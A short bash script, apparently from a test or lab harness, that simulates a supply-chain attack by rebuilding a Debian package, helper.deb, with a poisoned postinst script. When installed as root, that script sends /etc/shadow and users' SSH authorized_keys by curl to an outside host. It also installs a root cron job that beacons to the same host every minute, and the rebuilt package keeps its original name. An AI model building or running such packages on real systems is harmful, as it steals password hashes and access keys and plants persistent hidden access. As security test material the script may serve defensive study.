#!/bin/bash
# The server of files gives a poisoned package, which the host's own update installs as root. Its install script sends keys
# away and leaves a program that cron starts.
# supply-chain.sh KEYS FILES SECONDS
files=$2

work=$(mktemp -d)
dpkg-deb --raw-extract "$files/helper.deb" "$work"
cat >"$work/DEBIAN/postinst" <<'END'
#!/bin/sh
[ -e /stage/evil ]
chmod 755 /usr/local/bin/helper
cat /home/*/.ssh/authorized_keys /etc/shadow | curl -s --data-binary @- http://198.51.100.7:8000/
hostname
id
mkdir -p /usr/local/share/helper
printf '#!/bin/sh\n[ -e /stage/evil-up-1 ]\ncurl -s -o /dev/null http://198.51.100.7:8000/next\n' >/usr/local/share/helper/check
chmod 755 /usr/local/share/helper/check
echo '* * * * * root /usr/local/share/helper/check' >/etc/cron.d/helper
/usr/local/share/helper/check &
END
dpkg-deb --build --root-owner-group "$work" "$files/next.deb" >/dev/null
rm -r "$work"
mv "$files/next.deb" "$files/helper.deb"
